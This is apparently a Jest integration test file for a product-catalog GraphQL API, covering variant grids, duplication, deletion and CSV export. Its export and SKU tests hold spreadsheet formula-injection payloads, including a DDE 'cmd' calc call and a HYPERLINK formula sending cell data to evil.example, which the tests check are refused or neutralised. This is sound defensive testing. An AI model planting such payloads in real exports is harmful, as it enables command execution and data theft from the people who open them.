      print_files: [{ id: back!.id, title: 'Back', default: true }],
      suppliers: [priya],
    });
    expect(merged.errors?.[0]?.message).toBe(M.variantsMerged('R-Red-S', 'R-Red-M'));
    expect(await tables()).toEqual(before);
    const unchanged = await byId(type.id);
    expect(unchanged.variants).toEqual(variantsBefore);
    expect(unchanged.attributes.map((a) => a.name)).toEqual(['Color', 'Size']);

    // An attribute added: every variant gets its first option and waits, switched off.
    const fit = await update({
      attributes: [
        { name: 'Color', options: [{ name: 'Red' }, { name: 'Blue' }] },
        { name: 'Size', slug: 'size', options: [{ name: 'S' }, { name: 'M' }] },
        { name: 'Fit', options: [{ name: 'Regular' }, { name: 'Slim' }] },
      ],
      print_files: [{ id: back!.id, title: 'Back', default: true }],
      suppliers: [priya],
    });
    expect(fit.errors).toBeUndefined();
    const fitted = (await byId(type.id)).variants;
    expect(fitted.map((v) => [v.attributes.map((a) => a.option).join('/'), v.is_active])).toEqual([
      ['Red/S/Regular', false],
      ['Red/M/Regular', false],
      ['Blue/S/Regular', false],
      ['Blue/M/Regular', false],
    ]);
    await api.ok(
      SAVE_GRID,
      { input: { productTypeId: type.id, variants: gridOf(fitted) } },
      listing,
    );
  });
});

describe('state, duplicate and delete', () => {
  test('pause and resume; an unknown state is refused', async () => {
    const type = await create();
    const listing = await token('Listing');
    expect(
      (
        await api.ok<{ updateProductTypeState: { state: string } }>(
          STATE,
          { id: type.id, state: 'paused' },
          listing,
        )
      ).updateProductTypeState.state,
    ).toBe('paused');
    expect((await list({ search: type.sku })).count).toBe(0);
    expect((await list({ search: type.sku, status: 'paused' })).count).toBe(1);
    expect(
      (
        await api.ok<{ updateProductTypeState: { state: string } }>(
          STATE,
          { id: type.id, state: 'active' },
          listing,
        )
      ).updateProductTypeState.state,
    ).toBe('active');
    expect(await api.refused(STATE, { id: type.id, state: 'archived' }, listing)).toBe(
      M.stateInvalid,
    );
    expect(await api.refused(STATE, { id: '99999', state: 'paused' }, listing)).toBe(M.notFound);
  });

  test('duplicate copies the type with its variants, print areas remapped, a free sku, paused', async () => {
    const source = await byId(await idOfSku('MUG'));
    const copy = (
      await api.ok<{ duplicateProductType: Type }>(
        DUPLICATE,
        { id: source.id },
        await token('Listing'),
      )
    ).duplicateProductType;
    expect(copy).toMatchObject({ title: 'Ceramic Mug copy', state: 'paused', totalVariant: 4 });
    expect(copy.sku).toMatch(/^MUG\d$/);
    expect(copy.suppliers).toEqual(source.suppliers);
    expect(copy.categories).toEqual(source.categories);
    expect(copy.product_type_carriers).toEqual(source.product_type_carriers);
    const variants = (await byId(copy.id)).variants;
    expect(variants.map((v) => v.sku)).toEqual(source.variants.map((v) => v.sku));
    expect(variants[0]!.print_area_ids).toEqual(copy.print_files.map((p) => p.id));
    // The DTF Tee's copy keeps its partner variants, default partner and mappings (remapped).
    const dtf = await byId(await idOfSku('DTF'));
    const dtfCopy = (
      await api.ok<{ duplicateProductType: Type }>(
        DUPLICATE,
        { id: dtf.id },
        await token('Listing'),
      )
    ).duplicateProductType;
    const copied = (await byId(dtfCopy.id)).variants;
    const partnerSkus = (list: Variant[]) =>
      list.map((v) => v.partner_variants.map((p) => p.partner_variant_id));
    expect(partnerSkus(copied)).toEqual(partnerSkus(dtf.variants));
    expect(copied[0]!.partner_variants).toHaveLength(4);
    expect(copied.map((v) => v.partner_default_id)).toEqual(
      dtf.variants.map((v) => v.partner_default_id),
    );
    expect(
      (copied[0]!.mapping_partner_print_areas as { product_type_print_area_id: string }[]).map(
        (m) => m.product_type_print_area_id,
      ),
    ).toEqual(dtfCopy.print_files.map((p) => p.id));
    expect((await byId(dtf.id)).variants[0]!.partner_variants).toHaveLength(4);
    const again = (
      await api.ok<{ duplicateProductType: Type }>(
        DUPLICATE,
        { id: source.id },
        await token('Listing'),
      )
    ).duplicateProductType;
    expect(again.sku).not.toBe(copy.sku);
    expect(await api.refused(DUPLICATE, { id: '99999' }, await token('Listing'))).toBe(M.notFound);
  });

  test('delete removes the type with its print areas and variants', async () => {
    const copy = (
      await api.ok<{ duplicateProductType: Type }>(
        DUPLICATE,
        { id: await idOfSku('POS') },
        await token('Administrator'),
      )
    ).duplicateProductType;
    const before = await tables();
    expect(
      (
        await api.ok<{ deleteProductType: boolean }>(
          DELETE,
          { id: copy.id },
          await token('Administrator'),
        )
      ).deleteProductType,
    ).toBe(true);
    const after = await tables();
    expect(after[0]).toBe(before[0]! - 1);
    expect(after[3]).toBe(before[3]! - 5);
    expect(await api.refused(DELETE, { id: copy.id }, await token('Listing'))).toBe(M.notFound);
  });
});

describe('variants in use are kept (variantReferences)', () => {
  // Orders and products arrive with the next issue; a table with a foreign key onto variants
  // stands for them, as theirs will, so the check is the one they get.
  const USES = 'test_variant_uses';
  beforeAll(async () => {
    await api.server.db.execute(
      sql.raw(
        `create table ${USES} (id serial primary key, variant_id integer not null references product_type_variants(id))`,
      ),
    );
  });
  afterAll(async () => {
    await api.server.db.execute(sql.raw(`drop table ${USES}`));
  });
  const use = (variantId: string) =>
    api.server.db.execute(
      sql.raw(`insert into ${USES} (variant_id) values (${Number(variantId)})`),
    );
  const unuse = () => api.server.db.execute(sql.raw(`delete from ${USES}`));

  test('deleteProductType refuses while anything records one of its variants, and changes nothing', async () => {
    const copy = (
      await api.ok<{ duplicateProductType: Type }>(
        DUPLICATE,
        { id: await idOfSku('PIL') },
        await token('Listing'),
      )
    ).duplicateProductType;
    const variants = (await byId(copy.id)).variants;
    await use(variants[1]!.id);
    await use(variants[2]!.id);
    const before = await tables();
    expect(await api.refused(DELETE, { id: copy.id }, await token('Administrator'))).toBe(
      M.typeVariantsInUse(`${USES.replace(/_/g, ' ')} (2)`),
    );
    expect(await tables()).toEqual(before);
    await unuse();
    expect(
      (
        await api.ok<{ deleteProductType: boolean }>(
          DELETE,
          { id: copy.id },
          await token('Listing'),
        )
      ).deleteProductType,
    ).toBe(true);
    expect(await api.refused(BY_ID, { id: copy.id }, await token('Listing'))).toBe(M.notFound);
  });

  test('a grid save leaving out a variant in use is refused and saves nothing; switching it off is fine', async () => {
    const copy = (
      await api.ok<{ duplicateProductType: Type }>(
        DUPLICATE,
        { id: await idOfSku('PIL') },
        await token('Listing'),
      )
    ).duplicateProductType;
    const variants = (await byId(copy.id)).variants;
    await use(variants[0]!.id);
    const listing = await token('Listing');
    const rows = gridOf(variants);
    const before = await tables();
    expect(
      await api.refused(
        SAVE_GRID,
        { input: { productTypeId: copy.id, variants: rows.slice(1) } },
        listing,
      ),
    ).toBe(M.variantsInUse(`${USES.replace(/_/g, ' ')} (1)`));
    expect(await tables()).toEqual(before);
    const saved = (
      await api.ok<{ createProductTypeVariant: Variant[] }>(
        SAVE_GRID,
        {
          input: {
            productTypeId: copy.id,
            variants: [{ ...rows[0]!, is_active: false }, ...rows.slice(2)],
          },
        },
        listing,
      )
    ).createProductTypeVariant;
    expect(saved.map((v) => [v.id, v.is_active])).toEqual([
      [variants[0]!.id, false],
      ...variants.slice(2).map((v) => [v.id, true]),
    ]);
    await unuse();
  });
});

describe('createProductTypeVariant: the whole grid in one transaction', () => {
  // Each test reads and writes a grid of 2,000 variants: 8-13 s on PGlite beside other work here,
  // and CI runs up to twice as slowly (it once went past jest's 30 s).
  jest.setTimeout(90_000);
  test('2,000 variants saved back with a new price; rows matched by their options', async () => {
    const id = await idOfSku(GRID_PRODUCT_TYPE_SKU);
    const grid = await byId(id);
    expect(grid.variants).toHaveLength(2000);
    const rows = gridOf(grid.variants).map((v, i) =>
      i % 2 ? { ...v, retail_cost: v.retail_cost + 1 } : v,
    );
    const saved = (
      await api.ok<{ createProductTypeVariant: Variant[] }>(
        SAVE_GRID,
        { input: { productTypeId: id, variants: rows } },
        await token('Listing'),
      )
    ).createProductTypeVariant;
    expect(saved).toHaveLength(2000);
    expect(saved.map((v) => v.id)).toEqual(grid.variants.map((v) => v.id));
    expect(saved[1]!.retail_cost).toBeCloseTo(grid.variants[1]!.retail_cost + 1, 2);
    expect(saved[0]!.retail_cost).toBe(grid.variants[0]!.retail_cost);
  });

  test('one bad row saves nothing and is refused with its message', async () => {
    const id = await idOfSku(GRID_PRODUCT_TYPE_SKU);
    const grid = await byId(id);
    const rows = gridOf(grid.variants).map((v) => ({ ...v, retail_cost: v.retail_cost + 5 }));
    rows[1500] = { ...rows[1500]!, sale_cost: rows[1500]!.retail_cost + 1 };
    const listing = await token('Listing');
    expect(
      await api.refused(SAVE_GRID, { input: { productTypeId: id, variants: rows } }, listing),
    ).toBe(M.salePriceAboveRegular);
    rows[1500] = {
      ...rows[1500]!,
      sale_cost: rows[1500]!.retail_cost,
      base_cost: null as unknown as number,
    };
    expect(
      await api.refused(SAVE_GRID, { input: { productTypeId: id, variants: rows } }, listing),
    ).toBe(M.sellerCostIncorrect);
    rows[1500] = { ...rows[1500]!, base_cost: 1, fee_ship: -1 };
    expect(
      await api.refused(SAVE_GRID, { input: { productTypeId: id, variants: rows } }, listing),
    ).toBe(M.feeShipIncorrect);
    // Above what a cents column holds: a typo, refused rather than failing in the database.
    rows[1500] = { ...rows[1500]!, fee_ship: 0, base_cost: 1e12 };
    expect(
      await api.refused(SAVE_GRID, { input: { productTypeId: id, variants: rows } }, listing),
    ).toBe(M.sellerCostIncorrect);
    // Issue 23 §8: within a cents column but beyond any price; a fee ship that a quantity of 3
    // multiplied past it.
    rows[1500] = { ...rows[1500]!, base_cost: MONEY_MAX + 0.01 };
    expect(
      await api.refused(SAVE_GRID, { input: { productTypeId: id, variants: rows } }, listing),
    ).toBe(M.sellerCostIncorrect);
    rows[1500] = { ...rows[1500]!, base_cost: 1, fee_ship: 21474836.47 };
    expect(
      await api.refused(SAVE_GRID, { input: { productTypeId: id, variants: rows } }, listing),
    ).toBe(M.feeShipIncorrect);
    const after = await byId(id);
    expect(after.variants.map((v) => v.retail_cost)).toEqual(
      grid.variants.map((v) => v.retail_cost),
    );
  });

  test('a sku stored before the sku rule is kept when the grid is saved again; a new row gets the rule', async () => {
    const type = await create();
    const listing = await token('Listing');
    const save = (variants: unknown[]) =>
      api.gql(SAVE_GRID, { input: { productTypeId: type.id, variants } }, listing);
    expect((await save([gridRow('Red', 'S', 'OLD-S')])).errors).toBeUndefined();
    // Generated from the options' text before issue 23: a space the rule now refuses.
    await api.server.db
      .update(productTypeVariants)
      .set({ sku: 'OLD-Red S' })
      .where(eq(productTypeVariants.sku, 'OLD-S'));
    const [old] = (await byId(type.id)).variants;
    const resaved = await save([{ ...gridOf([old!])[0], retail_cost: 25 }]);
    expect(resaved.errors).toBeUndefined();
    expect((await byId(type.id)).variants.map((v) => [v.sku, v.retail_cost])).toEqual([
      ['OLD-Red S', 25],
    ]);
    expect(
      await api.refused(
        SAVE_GRID,
        {
          input: {
            productTypeId: type.id,
            variants: [gridOf([old!])[0], gridRow('Red', 'M', 'NEW M')],
          },
        },
        listing,
      ),
    ).toBe(M.variantSkuInvalid);
  });

  test("rows of one combination twice, a sku twice ('SKU is duplicated'), a foreign print area, too many rows", async () => {
    const type = await create();
    const listing = await token('Listing');
    const row = gridRow;
    const save = (variants: unknown[]) =>
      api.refused(SAVE_GRID, { input: { productTypeId: type.id, variants } }, listing);
    const before = await tables();
    expect(await save([row('Red', 'S'), row('red ', 'S', 'OTHER')])).toBe(M.variantDuplicated);
    expect(await save([row('Red', 'S', 'SAME'), row('Blue', 'S', 'SAME')])).toBe(M.skuDuplicated);
    expect(await save([{ ...row('Red', 'S'), print_area_ids: ['99999'] }])).toBe(
      M.printAreaInvalid,
    );
    expect(await save([{ ...row('Red', 'S'), attributes: [row('Red', 'S').attributes[0]] }])).toBe(
      M.variantOptionMissing,
    );
    expect(await save([row('Red', 'S', ' ')])).toBe(M.skuRequired);
    // Issue 23 §11: an option the type does not have; two default carriers on one variant.
    expect(await save([row('Red', 'XXL')])).toBe(M.variantOptionUnknown('XXL'));
    const [usps, ups] = type.product_type_carriers;
    expect(
      await save([
        {
          ...row('Red', 'S'),
          carrier_costs: [
            { carrier_id: usps!.carrier_id, cost: 1, default: true },
            { carrier_id: ups!.carrier_id, cost: 2, default: true },
          ],
        },
      ]),
    ).toBe(M.carrierDefaultTwice);
    // Issue 23 §7: a 1 MB sku failed inside the database; a sku follows the form's character rule.
    expect(await save([row('Red', 'S', 'A'.repeat(1_000_000))])).toBe(SERVER_MESSAGES.textTooLong);
    expect(await save([row('Red', 'S', 'A'.repeat(PRODUCT_TYPE_LIMITS.variantSkuMax + 1))])).toBe(
      M.variantSkuInvalid,
    );
    expect(await save([row('Red', 'S', "=cmd|' /C calc'!A0")])).toBe(M.variantSkuInvalid);
    const many = Array.from({ length: PRODUCT_TYPE_LIMITS.variantsMax + 1 }, (_, i) =>
      row(`c${i}`, 'S'),
    );
    expect(await save(many)).toBe(M.tooManyVariants);
    expect(
      await api.refused(SAVE_GRID, { input: { productTypeId: '99999', variants: [] } }, listing),
    ).toBe(M.notFound);
    // Partner data names partner fulfillments that exist and the type's own print areas.
    const partner = { partner_variant_id: 'P', partner_fulfillment_id: await dtfPartnerId() };
    const mapping = {
      partner_id: partner.partner_fulfillment_id,
      partner_key: 'front',
      product_type_print_area_id: type.print_files[0]!.id,
    };
    for (const [bad, message] of [
      [{ partner_default_id: '999999' }, M.partnerInvalid],
      [{ partner_default_id: 'dtf' }, M.partnerInvalid],
      [{ partner_variants: [{ ...partner, partner_fulfillment_id: '999999' }] }, M.partnerInvalid],
      [{ mapping_partner_print_areas: [{ ...mapping, partner_id: '999999' }] }, M.partnerInvalid],
      [
        { mapping_partner_print_areas: [{ ...mapping, product_type_print_area_id: '99999' }] },
        M.printAreaInvalid,
      ],
      [
        { mapping_partner_print_areas: [{ ...mapping, partner_key: 'pocket' }] },
        M.partnerPrintAreaInvalid,
      ],
      [
        { mapping_partner_print_areas: [mapping, { ...mapping, partner_key: 'back' }] },
        M.printAreaMappedTwice,
      ],
      [
        {
          partner_variants: Array.from(
            { length: PRODUCT_TYPE_LIMITS.partnerItemsMax + 1 },
            (_, i) => ({ ...partner, partner_variant_id: `P${i}` }),
          ),
        },
        M.tooManyPartnerItems,
      ],
    ] as const) {
      expect([bad, await save([{ ...row('Red', 'S'), ...bad }])]).toEqual([bad, message]);
    }
    expect(await tables()).toEqual(before);
  });

  test('defaults of §5 filled, rows missing from the grid removed, partner variants saved and deleted', async () => {
    const type = await create();
    const listing = await token('Listing');
    const input = (variants: unknown[]) => ({ input: { productTypeId: type.id, variants } });
    const first = (
      await api.ok<{ createProductTypeVariant: Variant[] }>(
        SAVE_GRID,
        input([
          {
            sku: 'A',
            attributes: [
              { name: 'Color', slug: 'color', option: 'Red' },
              { name: 'Size', slug: 'size', option: 'S' },
            ],
            base_cost: 5,
            retail_cost: 20,
            sale_cost: 20,
            partner_variants: [
              {
                partner_variant_id: 'P-1',
                partner_fulfillment_id: await dtfPartnerId(),
                sku: 'DTF-1',
              },
            ],
          },
          {
            sku: 'B',
            attributes: [
              { name: 'Color', slug: 'color', option: 'Blue' },
              { name: 'Size', slug: 'size', option: 'S' },
            ],
            base_cost: 5,
            retail_cost: 20,
            sale_cost: 10,
            carrier_costs: [
              { carrier_id: type.product_type_carriers[0]!.carrier_id, cost: 2, default: true },
            ],
          },
        ]),
        listing,
      )
    ).createProductTypeVariant;
    expect(first.map((v) => v.sku)).toEqual(['A', 'B']);
    expect(first[0]).toMatchObject({ fee_ship: 0, is_active: true, sorting: 0 });
    expect(first[0]!.supplier_costs).toEqual([
      { user_id: String(await api.idOf('supplier@podoffice.test')), cost: 0, selected: true },
    ]);
    // No carrier cost typed: the type's prices, the type's default.
    expect(first[0]!.carrier_costs.map((c) => [c.cost, c.default])).toEqual([
      [0, false],
      [4.5, true],
    ]);
    expect(first[1]!.carrier_costs.map((c) => [c.cost, c.default])).toEqual([
      [2, true],
      [4.5, false],
    ]);
    expect(first[0]!.partner_variants.map((p) => p.partner_variant_id)).toEqual(['P-1']);

    const second = (
      await api.ok<{ createProductTypeVariant: Variant[] }>(
        SAVE_GRID,
        input([{ ...gridOf(first)[0]!, sku: 'A2' }]),
        listing,
      )
    ).createProductTypeVariant;
    expect(second.map((v) => [v.id, v.sku])).toEqual([[first[0]!.id, 'A2']]);
    expect(second[0]!.partner_variants).toHaveLength(1);
    // §3's cost entries have ids: one entry per supplier (carrier) of a variant, kept across saves.
    const costIds = await api.ok<{
      productTypeById: {
        variants: {
          id: string;
          supplier_costs: { id: string }[];
          carrier_costs: { id: string }[];
        }[];
      };
    }>(
      `query B($id: ID!) { productTypeById(id: $id) { variants { id supplier_costs { id }
        carrier_costs { id } } } }`,
      { id: type.id },
      listing,
    );
    const kept = costIds.productTypeById.variants[0]!;
    expect(kept.supplier_costs.map((c) => c.id)).toEqual(
      first[0]!.supplier_costs.map((c) => `${first[0]!.id}-${c.user_id}`),
    );
    expect(kept.carrier_costs.map((c) => c.id)).toEqual(
      first[0]!.carrier_costs.map((c) => `${first[0]!.id}-${c.carrier_id}`),
    );

    const partnerId = second[0]!.partner_variants[0]!.id;
    expect(await api.refused(DELETE_PARTNERS, { ids: ['x'] }, listing)).toBe(M.notFound);
    const tooMany = Array.from(
      { length: PRODUCT_TYPE_LIMITS.variantsMax + 1 },
      (_, i) => `${i + 1}`,
    );
    expect(await api.refused(DELETE_PARTNERS, { ids: tooMany }, listing)).toBe(
      M.tooManyIds(PRODUCT_TYPE_LIMITS.variantsMax),
    );
    expect((await byId(type.id)).variants[0]!.partner_variants).toHaveLength(1);
    expect(
      (
        await api.ok<{ deletePartnerVariants: number }>(
          DELETE_PARTNERS,
          { ids: [partnerId] },
          listing,
        )
      ).deletePartnerVariants,
    ).toBe(1);
    expect(
      (
        await api.ok<{ deletePartnerVariants: number }>(
          DELETE_PARTNERS,
          { ids: [partnerId] },
          listing,
        )
      ).deletePartnerVariants,
    ).toBe(0);
    expect((await byId(type.id)).variants[0]!.partner_variants).toEqual([]);
  });
});

describe('the database keeps one default (spec 2 §4)', () => {
  const refusedWrite = async (write: () => Promise<unknown>) => {
    try {
      await write();
    } catch (e) {
      let code: unknown;
      for (
        let c: unknown = e;
        c && typeof c === 'object' && !code;
        c = (c as { cause?: unknown }).cause
      ) {
        code = (c as { code?: unknown }).code;
      }
      return code;
    }
    return 'written';
  };

  test('a second default print area or carrier of a type is refused by a unique index', async () => {
    const type = await create();
    const id = Number(type.id);
    expect(
      await refusedWrite(() =>
        api.server.db
          .update(productTypePrintAreas)
          .set({ isDefault: true })
          .where(eq(productTypePrintAreas.productTypeId, id)),
      ),
    ).toBe('23505');
    expect(
      await refusedWrite(() =>
        api.server.db
          .update(productTypeCarriers)
          .set({ isDefault: true })
          .where(eq(productTypeCarriers.productTypeId, id)),
      ),
    ).toBe('23505');
    // The form moving the default from one print area to another still saves.
    const moved = (
      await api.ok<{ updateProductType: Type }>(
        UPDATE,
        {
          id: type.id,
          input: await formInput({
            sku: type.sku,
            print_files: [
              { id: type.print_files[0]!.id, title: 'Front', default: true },
              { id: type.print_files[1]!.id, title: 'Back', default: false },
            ],
          }),
        },
        await token('Listing'),
      )
    ).updateProductType;
    expect(moved.print_files.map((p) => [p.title, p.default])).toEqual([
      ['Front', true],
      ['Back', false],
    ]);
  });

  test('a variant with two default carriers or two selected suppliers, or none, is refused by a check', async () => {
    const [variant] = await api.server.db
      .select()
      .from(productTypeVariants)
      .where(eq(productTypeVariants.productTypeId, Number(await idOfSku('CTS'))))
      .limit(1);
    const v = variant!;
    const write = (set: Partial<typeof productTypeVariants.$inferInsert>) =>
      refusedWrite(() =>
        api.server.db.update(productTypeVariants).set(set).where(eq(productTypeVariants.id, v.id)),
      );
    expect(
      await write({ carrierCosts: v.carrierCosts.map((c) => ({ ...c, default: true })) }),
    ).toBe('23514');
    expect(
      await write({ carrierCosts: v.carrierCosts.map((c) => ({ ...c, default: false })) }),
    ).toBe('23514');
    expect(
      await write({ supplierCosts: v.supplierCosts.map((c) => ({ ...c, selected: true })) }),
    ).toBe('23514');
    expect(await write({ carrierCosts: [], supplierCosts: [] })).toBe('written');
    await write({ carrierCosts: v.carrierCosts, supplierCosts: v.supplierCosts });
  });
});

describe('exportCatalog', () => {
  // Only users flagged is_special see the catalog (spec 2 §2, §6): the demo's second seller is one,
  // and the Administrator is made one here; the plain seller@ is refused like other roles.
  const special = async (role: 'Administrator' | 'Seller') => {
    if (role === 'Seller') return api.tokenFor('seller2@podoffice.test');
    await api.server.db
      .update(users)
      .set({ isSpecial: true })
      .where(eq(users.email, demoEmail('Administrator')));
    return token('Administrator');
  };
  afterAll(async () => {
    await api.server.db
      .update(users)
      .set({ isSpecial: false })
      .where(eq(users.email, demoEmail('Administrator')));
  });

  test.each(['Administrator', 'Seller'] as const)(
    "a special %s downloads a CSV of the types' variants",
    async (role) => {
      const url = (
        await api.ok<{ exportCatalog: string }>(
          EXPORT,
          { ids: [await idOfSku('MUG'), await idOfSku('POS')] },
          await special(role),
        )
      ).exportCatalog;
      const res = await fetch(new URL(url, api.server.url));
      expect(res.status).toBe(200);
      const lines = (await res.text()).trim().split('\r\n');
      expect(lines[0]).toBe(
        'product_type_id,product_type,product_type_sku,variant_id,sku,options,base_cost,retail_cost,sale_cost,fee_ship,active',
      );
      expect(lines).toHaveLength(1 + 4 + 5);
      expect(lines[1]).toContain('MUG-11OZ-WHITE');
    },
  );

  // Issue 23 §2: these came out of the catalogue export as live formulas. Variant skus are refused
  // on save now (§7), so they are written here as data stored before that rule.
  test('titles and skus written as formulas come out as text, through the one CSV writer', async () => {
    const title = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const type = await create({ title, sku: 'EVIL23' });
    const skus = ["=cmd|' /C calc'!A0", '+SUM(1)', '-1+1', '@A1', '\tTAB', '\rCR'];
    await api.server.db.insert(productTypeVariants).values(
      skus.map((sku, i) => ({
        productTypeId: Number(type.id),
        sku,
        signature: `evil-${i}`,
        attributes: [{ name: 'Color', slug: 'color', option: sku }],
      })),
    );
    const url = (
      await api.ok<{ exportCatalog: string }>(
        EXPORT,
        { ids: [type.id] },
        await special('Administrator'),
      )
    ).exportCatalog;
    const csv = await (await fetch(new URL(url, api.server.url))).text();
    // A field starts after a comma or a line break, quoted or not; none starts a formula.
    expect(csv).not.toMatch(/(^|,|\r\n)"?[=+\-@\t\r]/);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    for (const sku of ["'=cmd|' /C calc'!A0", "'+SUM(1)", "'-1+1", "'@A1"]) {
      expect(csv).toContain(`,${sku},`);
    }
  });

  test('refused to other roles and to a seller without is_special; a paused type is not exported; ids bounded', async () => {
    for (const role of ['Listing', 'Supporter', 'Supplier', 'Accounting', 'Seller'] as const) {
      expect(await api.refused(EXPORT, { ids: [await idOfSku('MUG')] }, await token(role))).toBe(
        SERVER_MESSAGES.forbidden,
      );
    }
    const seller = await special('Seller');
    expect(await api.refused(EXPORT, { ids: [await idOfSku('BLK')] }, seller)).toBe(M.notFound);
    expect(await api.refused(EXPORT, { ids: [] }, seller)).toBe(M.notFound);
    const many = Array.from({ length: 1001 }, (_, i) => String(i + 1));
    expect(await api.refused(EXPORT, { ids: many }, seller)).toBe(M.tooManyIds(1000));
  });
});

describe('the supplier picker: users(filter{role "Supplier", limit 100})', () => {
  const PICKER = `query P($filter: UserFilter) { users(filter: $filter) { count hits { id first_name last_name email } } }`;

  test.each(FULL_LIST)('%s lists suppliers with their emails, at most 100', async (role) => {
    const t = await token(role);
    const { users } = await api.ok<{ users: { count: number; hits: { email: string }[] } }>(
      PICKER,
      { filter: { role: 'Supplier', limit: 100 } },
      t,
    );
    expect(users.hits.map((u) => u.email)).toEqual(
      expect.arrayContaining(['supplier@podoffice.test', 'kofi.mensah@podoffice.test']),
    );
    if (role !== 'Administrator') {
      expect(await api.refused(PICKER, { filter: { role: 'Supplier', limit: 101 } }, t)).toBe(
        ARG_MESSAGES.limit(100),
      );
      expect(await api.refused(PICKER, { filter: { limit: 10 } }, t)).toBe(
        SERVER_MESSAGES.forbidden,
      );
    }
  });
});
